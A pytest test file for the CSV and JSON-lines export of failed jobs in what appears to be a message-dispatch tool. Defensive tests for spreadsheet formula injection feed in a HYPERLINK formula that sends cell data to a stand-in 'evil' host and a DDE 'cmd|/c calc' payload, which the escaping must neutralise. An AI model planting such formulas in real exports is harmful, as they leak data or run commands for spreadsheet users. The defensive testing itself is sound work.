"""`export`: failed jobs as CSV and as JSON lines."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
from importlib import import_module
from pathlib import Path

import pytest
from harasocial_dispatch.schemas import QueueUnavailable, State
from harasocial_dispatch.schemas.error_codes import explain_any
from harasocial_dispatch.schemas.export import csv_text, escape_cell, unescape_cell
from hypothesis import given
from hypothesis import strategies as st
from support.command_line import Jobs, Run
from support.failures import raising
from support.harness import present

WINDOW = explain_any("10/2018278")
PAGE, OTHER_PAGE, RECIPIENT = "500725830264749", "600", "2560816460648749"


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel would not take it for UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_a_csv_has_a_row_for_each_failed_job(run: Run, jobs: Jobs) -> None:
    """The failed jobs are listed, the latest first. Other jobs are not included."""
    first = jobs.failed(metadata="order 1001, paid", idempotency_key="k-1")
    second = jobs.failed("190", message='say "no"', page_id=OTHER_PAGE)
    jobs.sent()
    result = run("export")
    assert (result.exit_code, result.stderr) == (0, "exported 2 jobs\n")
    later, earlier = rows(result.stdout)
    assert earlier == {
        "job_id": first,
        "failed_at": jobs.producer.get_job(first).as_json()["finished_at"],
        "error_code": "10/2018278",
        "error_message": "refused",
        "meaning": WINDOW.meaning,
        "what_to_do": WINDOW.remedy,
        "http_status": "400",
        "attempts": "1",
        "page_id": f"'{PAGE}",
        "campaign": "",
        "recipient_id": f"'{RECIPIENT}",
        "payload_id": jobs.producer.get_job(first).job["message"]["payload_id"],
        "metadata": "order 1001, paid",
        "idempotency_key": "k-1",
        "delivery": "at_least_once",
        "enqueued_at": jobs.producer.get_job(first).as_json()["enqueued_at"],
    }
    assert (later["job_id"], later["error_message"], later["metadata"]) == (second, 'say "no"', "")


def test_json_lines_have_the_format_of_show(run: Run, jobs: Jobs) -> None:
    """Each line is one complete record."""
    ids = [jobs.failed(), jobs.failed()]
    result = run("export", "--format", "jsonl")
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert lines == [jobs.producer.get_job(job_id).as_json() for job_id in reversed(ids)]


def test_the_filters_are_those_of_replay(run: Run, jobs: Jobs) -> None:
    """Filters by error code, page and time work alone and together."""
    window = jobs.failed()
    token = jobs.failed("190", page_id=OTHER_PAGE)

    def exported(*options: str) -> set[str]:
        return {row["job_id"] for row in rows(run("export", *options).stdout)}

    assert exported("--error-code", "190") == {token}
    assert exported("--page-id", PAGE) == {window}
    assert exported("--page-id", PAGE, "--error-code", "190") == set()
    assert exported("--since", "1h") == {window, token}
    assert exported("--until", "1h") == set()
    assert "exported 0 jobs" in run("export", "--until", "1h").stderr


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_a_spreadsheet_reads_no_cell_as_a_formula(run: Run, jobs: Jobs, begin: str) -> None:
    """A formula in metadata must not run in a spreadsheet."""
    formula = f'{begin}HYPERLINK("http://evil/?"&A1)'
    jobs.failed(message=formula, metadata=formula)
    (row,) = rows(run("export").stdout)
    assert row["metadata"] == f"'{formula}"
    assert not row["error_message"].startswith(begin)


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("quote", ["", '"', ' "', "\t"])
@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝"])
def test_no_cell_is_a_formula_with_another_separator(
    separator: str, quote: str, begin: str
) -> None:
    """In some locales, Excel splits at semicolons and reads quotes literally."""
    text = csv_text([["x", f'a{separator}{quote}{begin}cmd|"/c calc"!A1{separator}b', "y"]])
    for delimiter in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(text), delimiter=delimiter):
            assert not any(cell.strip(' "\t\r\n').startswith(begin) for cell in cells)


#: Texts of characters that a spreadsheet changes, or that the protection uses.
telling = st.text("=+-@'\";,\t\r\n |x0159./:eE＝", max_size=12) | st.text(max_size=12)


@given(telling)
def test_a_protected_cell_is_read_back_as_it_was(cell: str) -> None:
    """Any text is read back unchanged, also with its own apostrophes or without protection."""
    assert unescape_cell(escape_cell(cell)) == cell
    if escape_cell(cell) == cell:
        assert unescape_cell(cell) == cell


@pytest.mark.parametrize(
    ("cell", "is_protected"),
    [
        ("2560816460648749", True),
        ("500725830264749", True),
        ("123456789012", True),
        ("600", False),
        ("0912345678", True),
        ("1.50", True),
        ("12e34", True),
        ("1/99", True),
        ("10/2018278", False),
        ("2026-01-31", True),
        ("2026-01-31T09:30:00.000Z", False),
        ("09:30", True),
        ("order 1001", False),
        ("'quoted'", False),
        ("Ngoài khung giờ", False),
    ],
)
def test_values_that_a_spreadsheet_would_change_are_protected(
    cell: str, is_protected: bool
) -> None:
    """Long ids would lose digits, and codes would become dates. Other texts are unchanged."""
    assert escape_cell(cell) == ("'" + cell if is_protected else cell)


def test_an_exported_file_can_be_enqueued_again(run: Run, jobs: Jobs, tmp_path: Path) -> None:
    """Each failed job becomes one new job, even if the file is enqueued several times."""
    # given failed jobs, with hostile and long texts
    keyed = jobs.failed(idempotency_key="order-1001", metadata="x;=cmd()", delivery="at_most_once")
    other = jobs.failed(page_id=OTHER_PAGE, metadata="'=1")
    file = tmp_path / "failed.csv"
    assert run("export", "-o", file).exit_code == 0
    assert file.read_bytes().startswith(b"\xef\xbb\xbfjob_id,")

    # when the file is enqueued as it is
    result = run("enqueue", file)

    # then a notice explains it, and there is a new job for each
    assert (result.exit_code, result.stdout) == (
        0,
        "2 new, 0 already there, 0 rejected\n",
    )
    assert "the columns failed_at, error_code, error_message, meaning, what_to_do" in result.stderr
    assert "The failed job stays failed" in result.stderr
    new = {job.page_id: job for job in jobs.producer.find_jobs(state="queued")}
    assert new[PAGE].job == jobs.producer.get_job(keyed).job
    assert new[PAGE].delivery.value == "at_most_once"
    assert new[OTHER_PAGE].job == jobs.producer.get_job(other).job
    assert jobs.state(keyed) is jobs.state(other) is State.FAILED
    again = run("enqueue", file).stdout
    assert again == "0 new, 2 already there, 0 rejected\n"

    # and one that fails again is exported as another job
    jobs.end(State.FAILED, "190")
    run("export", "--error-code", "190", "-o", file)
    assert run("enqueue", file).stdout == "2 new, 0 already there, 0 rejected\n"


@pytest.mark.parametrize("name", ["failed.csv", "failed.jsonl"])
def test_an_exported_job_stays_in_its_campaign(
    run: Run, jobs: Jobs, tmp_path: Path, name: str
) -> None:
    """--campaign overrides the exported campaign."""
    jobs.failed(campaign="sale")
    file = tmp_path / name
    assert run("export", "-o", file).exit_code == 0
    assert run("enqueue", file).stdout == "1 new, 0 already there, 0 rejected\n"
    (again,) = jobs.producer.find_jobs(state="queued")
    assert again.campaign == "sale"
    jobs.end(State.SENT)
    jobs.failed(campaign="sale", page_id=OTHER_PAGE)
    assert run("export", "-o", file).exit_code == 0
    result = run("enqueue", file, "--campaign", "sale-again", "--yes")
    assert result.stdout == "1 new, 1 already there, 0 rejected\n"
    (again,) = jobs.producer.find_jobs(state="queued")
    assert again.campaign == "sale-again"


def test_exported_json_lines_can_be_enqueued_again(run: Run, jobs: Jobs, tmp_path: Path) -> None:
    """Like CSV: each failed job becomes one new job, even if enqueued several times."""
    keyed = jobs.failed(idempotency_key="order-1001", metadata="m", delivery="at_most_once")
    file = tmp_path / "failed.jsonl"
    assert run("export", "-o", file).exit_code == 0
    for expected in ("1 new, 0 already there", "0 new, 1 already there"):
        assert run("enqueue", file).stdout == f"{expected}, 0 rejected\n"
    (new,) = jobs.producer.find_jobs(state="queued")
    assert new.job == jobs.producer.get_job(keyed).job
    assert new.delivery.value == "at_most_once"
    assert jobs.state(keyed) is State.FAILED


def test_a_file_gets_its_name_when_it_is_complete(
    run: Run, jobs: Jobs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The extension sets the format, only the owner can read it, and a partial file is deleted."""
    job_id = jobs.failed()
    file = tmp_path / "failed.jsonl"
    result = run("export", "-o", file)
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "exported 1 job\n")
    assert json.loads(file.read_text())["job_id"] == job_id
    assert stat.S_IMODE(file.stat().st_mode) == 0o600

    # when Redis fails during the next export
    monkeypatch.setattr(
        import_module("harasocial_dispatch.cli.commands.export"),
        "json_lines",
        raising(QueueUnavailable("Redis did not answer")),
    )
    assert run("export", "-o", file).exit_code == 4
    assert json.loads(file.read_text())["job_id"] == job_id
    assert [path.name for path in tmp_path.iterdir()] == ["failed.jsonl"]


def test_the_output_can_be_a_named_pipe(run: Run, jobs: Jobs, tmp_path: Path) -> None:
    """The output can be `/dev/stderr` or a named pipe."""
    jobs.failed()
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE, text=True) as reader:
        assert run("export", "-o", fifo).exit_code == 0
        assert len(rows(present(reader.stdout).read())) == 1
    assert fifo.is_fifo()


def test_a_missing_folder_is_an_error(run: Run, tmp_path: Path) -> None:
    """The error is one line, without a traceback."""
    result = run("export", "-o", tmp_path / "nowhere" / "a.csv")
    file = tmp_path / "nowhere" / "a.csv"
    assert result.exit_code == 2
    assert f"cannot write {file}: No such file or directory\n" in result.stderr


def test_thousands_of_jobs_are_exported_exactly_once(run: Run, jobs: Jobs) -> None:
    """Over several pages of results, every job is exported exactly once."""
    body = {"recipient": {"id": RECIPIENT}, "message": {"payload_id": "p"}}
    report = jobs.producer.enqueue_many({**body, "page_id": str(i % 7 + 1)} for i in range(1200))
    jobs.end(State.FAILED, "190")
    exported = [row["job_id"] for row in rows(run("export").stdout)]
    assert sorted(exported) == sorted(report.accepted)
